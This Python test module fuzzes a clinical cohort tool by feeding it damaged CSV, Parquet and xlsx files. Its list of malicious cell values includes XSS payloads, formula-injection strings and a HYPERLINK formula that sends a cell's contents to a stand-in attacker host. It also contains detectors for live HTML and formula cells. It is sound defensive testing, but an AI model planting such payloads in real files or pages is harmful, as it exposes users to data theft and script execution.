"""A seeded, hypothesis-driven mutation fuzzer over cohorts, as a hospital data team
would feed aftercar: CSV, Parquet and xlsx with wrong types, impossible dates,
unicode, injected HTML and formulas, merged and hidden sheets, 2 MB strings, empty
and binary files.

A case is a base cohort (``aftercar.simulate``, a few patients) and a list of
mutations. :func:`check_read` runs the reader and validator in-process (cheap: the
default test run does a few hundred); :func:`check_report` runs the whole CLI
(``aftercar report --suppress-below K``) on one case. Each returns the failures
found (an empty list is a pass):

* no traceback: only :class:`aftercar.errors.AftercarError` may end a run (exit 2);
* exit codes 0 or 2 only;
* rows accounted for: every data row of the input is in the cohort or listed in
  ``Cohort.excluded`` with a reason, and every error names its rule and a message;
* no live HTML in ``report.html`` (no ``<script``, ``<img``, event handlers);
* no formula text in CSV or xlsx outputs (a text cell starting ``= + - @ TAB CR``
  that is not a number; no formula cell in a written workbook);
* nothing under K when suppressing: no count from 1 to K-1 under a count key of
  ``results.json`` or in a count column of a table, no patient identifier in any
  output.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import random
import re
import traceback
from collections.abc import Iterator
from dataclasses import dataclass
from functools import lru_cache
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
from hypothesis import strategies as st

from aftercar.errors import AftercarError

TABLES = ("patients", "lines")
FORMATS = ("csv", "parquet", "xlsx")
BIG = "A" * 2_000_000

#: Cell values a hospital export can hold.
NASTY_VALUES: tuple[Any, ...] = (
    "",
    None,
    "abc",
    "12.5.3",
    "-1",
    "1e308",
    "NaN",
    "TRUE",
    "2023-02-30",
    "1850-01-01",
    "1900-01-01",
    "1899-12-30",
    "2099-12-31",
    "31/12/2020",
    "12/31/2020",
    "Zoë Ångström",
    "患者",
    "\u202eevil",
    "a\u200bb",
    "😀",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "</td></tr><b>x</b>",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "line\nbreak",
    'quote"inside',
    BIG,
)

NASTY_HEADERS = ("Patient ID", "patient_id ", "pätient_id", "=cmd", "", "line\nbreak")
FILE_DAMAGE = ("empty", "binary", "header_only", "truncated")
SHEET_DAMAGE = ("merge", "hide", "formula", "extra_sheet", "number_cell", "date_cell")


@dataclass(frozen=True)
class Case:
    """One fuzz case: base cohort (``n`` patients, ``seed``), format and mutations."""

    fmt: str
    n: int
    seed: int
    mutations: tuple[tuple[Any, ...], ...]

    def __repr__(self) -> str:  # 2 MB strings stay out of failure messages
        muts = [tuple("<2MB>" if v is BIG else v for v in m) for m in self.mutations]
        return f"Case({self.fmt!r}, n={self.n}, seed={self.seed}, mutations={muts!r})"


_table = st.sampled_from(TABLES)
_index = st.integers(0, 10_000)
mutation = st.one_of(
    st.tuples(st.just("cell"), _table, _index, _index, st.sampled_from(NASTY_VALUES)),
    st.tuples(st.just("cell"), _table, _index, _index, st.sampled_from(NASTY_VALUES)),
    st.tuples(st.just("cell"), _table, _index, _index, st.text(max_size=12)),
    st.tuples(st.just("drop_column"), _table, _index),
    st.tuples(st.just("duplicate_row"), _table, _index),
    st.tuples(st.just("rename_column"), _table, _index, st.sampled_from(NASTY_HEADERS)),
    st.tuples(st.just("file"), _table, st.sampled_from(FILE_DAMAGE)),
    st.tuples(st.just("sheet"), _table, st.sampled_from(SHEET_DAMAGE), _index, _index),
)
cases = st.builds(
    Case,
    fmt=st.sampled_from(FORMATS),
    n=st.integers(3, 10),
    seed=st.integers(0, 5),
    mutations=st.lists(mutation, max_size=4).map(tuple),
)


@lru_cache(maxsize=64)
def _base(n: int, seed: int) -> tuple[pd.DataFrame, pd.DataFrame]:
    from aftercar.simulate import simulate_cohort

    patients, lines = simulate_cohort(n, seed=seed).to_frames()
    return patients.astype(object), lines.astype(object)


def _frames(case: Case) -> dict[str, pd.DataFrame]:
    patients, lines = _base(case.n, case.seed)
    frames = {"patients": patients.copy(), "lines": lines.copy()}
    for m in case.mutations:
        df = frames[m[1]]
        if m[0] == "cell" and len(df) and df.shape[1]:
            df.iat[m[2] % len(df), m[3] % df.shape[1]] = m[4]
        elif m[0] == "drop_column" and df.shape[1] > 1:
            frames[m[1]] = df.drop(columns=df.columns[m[2] % df.shape[1]])
        elif m[0] == "duplicate_row" and len(df):
            frames[m[1]] = pd.concat([df, df.iloc[[m[2] % len(df)]]], ignore_index=True)
        elif m[0] == "rename_column" and df.shape[1]:
            names = list(df.columns)
            names[m[2] % len(names)] = m[3]
            if len(set(names)) == len(names):
                df.columns = names
    return frames


def _text(v: Any) -> str | None:
    return None if v is None or (isinstance(v, float) and v != v) else str(v)


def _write_parquet(df: pd.DataFrame, path: Path) -> None:
    cols = {str(c): pa.array([_text(v) for v in df[c]], pa.large_string()) for c in df.columns}
    pq.write_table(pa.table(cols), path)


def _cell(v: Any) -> Any:
    """A value as a spreadsheet can hold it (control characters cannot be stored)."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    if isinstance(v, int | float) and not isinstance(v, bool):
        return v
    text = _text(v)
    return None if text is None else ILLEGAL_CHARACTERS_RE.sub("", text)


def _write_xlsx(frames: dict[str, pd.DataFrame], path: Path, damage: list[tuple]) -> None:
    from openpyxl import Workbook

    book = Workbook()
    book.remove(book.active)
    for name, df in frames.items():
        ws = book.create_sheet(name)
        ws.append([_cell(c) for c in df.columns])
        for row in df.itertuples(index=False):
            ws.append([_cell(v) for v in row])
    for _, table, kind, a, b in damage:
        _damage_sheet(book, book[table], kind, a, b)
    book.save(path)


def _damage_sheet(book: Any, ws: Any, kind: str, a: int, b: int) -> None:
    rows, cols = max(ws.max_row, 2), max(ws.max_column, 1)
    r, c = 2 + a % (rows - 1), 1 + b % cols
    if kind == "merge" and cols > 1:
        ws.merge_cells(start_row=r, start_column=1, end_row=r, end_column=min(cols, 2))
    elif kind == "hide":
        extra = book.create_sheet(f"{ws.title}_hidden_copy")
        extra.sheet_state = "hidden"
        ws.sheet_state = "hidden" if a % 2 else ws.sheet_state
    elif kind == "formula":
        ws.cell(row=r, column=c).value = "=1+2"  # no cached value
    elif kind == "extra_sheet":
        book.create_sheet("Notes").append(["free text", "=SUM(1,2)"])
    elif kind == "number_cell":
        ws.cell(row=r, column=c).value = 45000.5
    elif kind == "date_cell":
        import datetime as dt

        ws.cell(row=r, column=c).value = dt.datetime(1900, 1, 1)


def _damage_file(path: Path, kind: str, seed: int) -> None:
    if kind == "empty":
        path.write_bytes(b"")
    elif kind == "binary":
        path.write_bytes(random.Random(seed).randbytes(512))
    elif kind == "header_only":
        path.write_bytes(path.read_bytes().split(b"\n", 1)[0] + b"\n")
    elif kind == "truncated":
        data = path.read_bytes()
        path.write_bytes(data[: max(1, len(data) // 2)])


def write_case(case: Case, folder: Path) -> tuple[Path, dict[str, int]]:
    """Write the mutated cohort; return the path to give aftercar and the data rows
    per table (``-1`` where the file itself was damaged)."""
    frames = _frames(case)
    folder.mkdir(parents=True, exist_ok=True)
    rows = {t: len(df) for t, df in frames.items()}
    sheets = [m for m in case.mutations if m[0] == "sheet"]
    if case.fmt == "xlsx":
        target = folder / "cohort.xlsx"
        _write_xlsx(frames, target, sheets)
        if any(m[2] in ("merge", "hide") for m in sheets):
            rows = dict.fromkeys(rows, -1)  # merged/hidden sheets: reported, not counted
    else:
        target = folder
        for name, df in frames.items():
            path = folder / f"{name}.{case.fmt}"
            if case.fmt == "csv":
                df.to_csv(path, index=False)
            else:
                _write_parquet(df, path)
    for m in case.mutations:
        if m[0] == "file":
            path = target if case.fmt == "xlsx" else folder / f"{m[1]}.{case.fmt}"
            _damage_file(path, m[2], case.seed)
            rows[m[1]] = -1
    return target, rows


def check_read(case: Case, folder: Path) -> list[str]:
    """Validate a mutated cohort in-process; return the failures."""
    from aftercar.io import validate_cohort

    path, rows = write_case(case, folder)
    try:
        report = validate_cohort(path)
    except AftercarError:
        return []
    except Exception:
        return [f"traceback in validate: {traceback.format_exc(limit=3)[-800:]}"]
    fails = [
        f"error without rule or message: {p}" for p in report.errors if not (p.rule and p.message)
    ]
    if report.cohort is not None:
        fails += _rows_accounted(report.cohort, rows)
    return fails


def _rows_accounted(cohort: Any, rows: dict[str, int]) -> list[str]:
    excluded = cohort.excluded.to_pandas()
    fails = []
    for table in TABLES:
        if rows[table] < 0:
            continue
        used = getattr(cohort, table).num_rows
        listed = int((excluded["table"] == table).sum()) if len(excluded) else 0
        if used + listed != rows[table]:
            fails.append(f"{table}: {rows[table]} rows in, {used} used + {listed} listed")
    if len(excluded) and excluded["reason"].isna().any():
        fails.append("an excluded row without a reason")
    return fails


def check_xlsx_writer(case: Case, folder: Path) -> list[str]:
    """A cohort that reads is written back as xlsx without a single formula cell."""
    from openpyxl import load_workbook

    from aftercar.io import read_cohort, write_cohort

    path, _ = write_case(case, folder / "in")
    try:
        cohort = read_cohort(path)
    except AftercarError:
        return []
    try:
        out = write_cohort(cohort.patients, cohort.lines, folder / "out.xlsx", format="xlsx")
    except AftercarError as exc:  # a control character xlsx cannot store: named, with a fix
        return [] if "control character" in str(exc) else [f"xlsx writer: {exc}"]
    book = load_workbook(out[0])
    return [
        f"formula written in {ws.title}!{cell.coordinate}: {str(cell.value)[:40]!r}"
        for ws in book.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


LIVE_TAGS = frozenset({"script", "img", "iframe", "object", "embed", "link", "form", "base"})


class _LiveHTML(HTMLParser):
    """Tags and attributes a browser would act on (escaped text is not parsed as such)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in LIVE_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or (value or "").strip().lower().startswith("javascript:"):
                self.found.append(f"<{tag} {name}=...>")


def live_html(text: str) -> list[str]:
    """Live tags and handlers in an HTML page, other than the report's own appendix
    search script (a fixed text, :data:`aftercar.report.appendix.SCRIPT`)."""
    from aftercar.report.appendix import SCRIPT

    parser = _LiveHTML()
    parser.feed(text.replace(f"<script>{SCRIPT}</script>", ""))
    return parser.found


_NUMBER = re.compile(r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$")


def formula_cells(path: Path) -> Iterator[str]:
    """Text cells of a CSV that a spreadsheet would run as a formula."""
    with path.open(encoding="utf-8", newline="") as fh:
        for row in csv.reader(fh):
            for cell in row:
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _NUMBER.match(cell):
                    yield cell[:40]


def small_counts(obj: Any, k: int, under: bool = False) -> Iterator[Any]:
    """Numbers from 1 to K-1 under a count key of a JSON object."""
    from aftercar.report.disclosure import is_count_key

    if isinstance(obj, dict):
        for key, v in obj.items():
            yield from small_counts(v, k, is_count_key(key) and not isinstance(v, dict))
    elif isinstance(obj, list):
        for v in obj:
            yield from small_counts(v, k, under and not isinstance(v, dict))
    elif under and isinstance(obj, int | float) and not isinstance(obj, bool) and 0 < obj < k:
        yield obj


def check_report(case: Case, folder: Path, k: int = 5) -> list[str]:
    """Run ``aftercar report --suppress-below K`` on a mutated cohort; return failures."""
    from aftercar.cli import main

    path, _ = write_case(case, folder / "in")
    out = folder / "out"
    err = io.StringIO()
    try:
        with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
            code = main(["report", str(path), "-o", str(out), "--suppress-below", str(k)])
    except Exception:
        return [f"traceback in report: {traceback.format_exc(limit=3)[-800:]}"]
    fails = [] if code in (0, 2) else [f"exit code {code}"]
    if "Traceback" in err.getvalue():
        fails.append("traceback printed")
    if code == 0:
        fails += _check_outputs(out, k, _ids(case))
    return fails


def _ids(case: Case) -> set[str]:
    frames = _frames(case)
    ids = set()
    for df in frames.values():
        if "patient_id" in df.columns:
            ids |= {str(v) for v in df["patient_id"] if _text(v) and len(str(v)) >= 6}
    return ids


def _check_outputs(out: Path, k: int, ids: set[str]) -> list[str]:
    fails = []
    html = (out / "report.html").read_text("utf-8")
    fails += [f"live HTML: {tag}" for tag in live_html(html)]
    for csv_path in sorted((out / "tables").glob("*.csv")):
        fails += [f"formula text in {csv_path.name}: {c!r}" for c in formula_cells(csv_path)]
    results = json.loads((out / "results.json").read_text("utf-8"))
    fails += [f"count {v} < {k} in results.json" for v in small_counts(results, k)]
    for path in out.rglob("*"):
        if path.suffix in (".json", ".csv", ".html", ".txt"):
            text = path.read_text("utf-8")
            named = sorted(i for i in ids if i in text)
            fails += [f"{path.name} names patient ids {named[:3]}"] if named else []
    return fails
